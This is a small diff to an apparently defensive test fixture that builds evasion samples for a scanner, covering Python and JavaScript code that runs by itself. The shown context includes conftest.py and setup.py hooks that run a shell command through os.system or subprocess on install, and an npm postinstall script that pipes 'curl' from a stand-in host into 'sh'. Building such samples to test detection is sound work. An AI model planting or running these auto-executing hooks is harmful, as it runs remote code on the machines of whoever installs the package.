@@ -1,3 +1,5 @@
+# A fixture is one text: broken over lines, it could not be read as what it is.
+# ruff: noqa: E501
 """Evasion class 5: tricks of Python and JavaScript, and code that starts by itself."""
 
 import base64
@@ -212,8 +214,8 @@ HOOKS = {
     "conftest": beside(("tests/conftest.py", f"import subprocess\nsubprocess.run({COMMAND!r}, shell=True)\n")),
     "setup.py": beside(("setup.py", f"from setuptools import setup\nimport os\nos.system({COMMAND!r})\nsetup(name='profiler')\n")),
     "setup.py with a command class": beside(
-        ("setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass I(install):\n"
-         f"    def run(self):\n        os.system({COMMAND!r})\n        install.run(self)\n\n\nsetup(name='p', cmdclass={{'install': I}})\n"),
+        ("setup.py", ("from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass I(install):\n"
+         f"    def run(self):\n        os.system({COMMAND!r})\n        install.run(self)\n\n\nsetup(name='p', cmdclass={{'install': I}})\n")),
     ),
     "package init": beside(("profiler/__init__.py", ENVIRONMENT)),
     "postinstall": beside(("package.json", '{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://drop.example/i | sh"}}')),
